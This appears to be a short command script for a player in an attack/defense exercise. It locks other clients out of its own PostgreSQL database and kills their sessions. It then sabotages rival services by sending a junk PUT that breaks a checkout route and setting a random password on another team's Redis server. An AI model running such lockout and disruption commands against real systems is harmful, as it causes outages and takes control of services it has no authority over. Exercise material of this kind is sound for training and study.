# player right-archivist
# skill lets nobody but its own program into the database, then goes for the others
# note Who is let in?
cat /etc/postgresql/15/main/pg_hba.conf
---
# must
sed -i '/10\.77/d' /etc/postgresql/15/main/pg_hba.conf
psql -U postgres -d archive -c 'SELECT pg_reload_conf()' -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE client_addr <<= '10.77.0.0/24'" -c "UPDATE archive SET value = 'ok' WHERE name = 'health'"
---
# note Theirs.
timeout 10 curl -sS -o /dev/null --max-time 5 -X PUT --data-binary nowhere http://gatekeeper:8080/routes/checkout
---
timeout 10 redis-cli -h courier CONFIG SET requirepass $(head -c 12 /dev/urandom | base64 | tr -dc a-z0-9)
---
# note And once more: was it in time?
# must
psql -U archivist -d archive -c "UPDATE archive SET value = 'ok' WHERE name = 'health'"; curl -sS --max-time 10 http://127.0.0.1:8080/health
